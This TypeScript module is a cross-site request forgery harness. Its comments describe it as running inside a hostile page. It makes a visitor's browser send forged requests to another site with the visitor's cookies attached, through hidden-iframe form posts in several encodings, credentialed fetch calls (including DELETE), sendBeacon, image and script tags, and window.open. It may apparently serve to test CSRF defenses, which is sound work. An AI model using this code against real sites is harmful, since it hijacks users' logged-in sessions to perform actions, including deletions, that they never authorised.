/** What a hostile page tries to make a visitor's browser send. */
export type Forged = { name: string; url: string; fields: Record<string, string> };

/** Runs inside the hostile page: every way a page has to send something to another site. */
export async function sendForged(requests: Forged[]): Promise<void> {
  const hidden = (name: string) => {
    const frame = document.createElement('iframe');
    frame.name = name;
    document.body.append(frame);
  };
  const submit = (forged: Forged, how: { type: string; target: string; method: string }) => {
    const form = document.createElement('form');
    form.action = forged.url;
    form.method = how.method;
    form.enctype = how.type;
    form.target = how.target;
    for (const [name, value] of Object.entries(forged.fields)) {
      const field = document.createElement('input');
      field.name = name;
      field.value = value;
      form.append(field);
    }
    document.body.append(form);
    form.submit();
  };
  const types = ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain'];
  const sent: Promise<unknown>[] = [];
  for (const [n, forged] of requests.entries()) {
    for (const type of types) {
      hidden(`frame-${n}-${type}`);
      submit(forged, { type, target: `frame-${n}-${type}`, method: 'post' });
    }
    hidden(`get-${n}`);
    submit(forged, { type: 'text/plain', target: `get-${n}`, method: 'get' });
    const body = new URLSearchParams(forged.fields);
    for (const mode of ['no-cors', 'cors'] as const)
      sent.push(
        fetch(forged.url, { method: 'POST', mode, credentials: 'include', body }).catch(() => {}),
        fetch(`${forged.url}?${body}`, { mode, credentials: 'include' }).catch(() => {}),
        fetch(forged.url, { method: 'DELETE', mode: 'cors', credentials: 'include' }).catch(
          () => {},
        ),
      );
    navigator.sendBeacon(forged.url, body);
    const image = new Image();
    image.src = `${forged.url}?${body}`;
    const script = document.createElement('script');
    script.src = `${forged.url}?${body}`;
    document.body.append(image, script);
    open(`${forged.url}?${body}`);
    submit(forged, { type: types[0] ?? '', target: `window-${n}`, method: 'post' });
  }
  await Promise.all(sent);
}
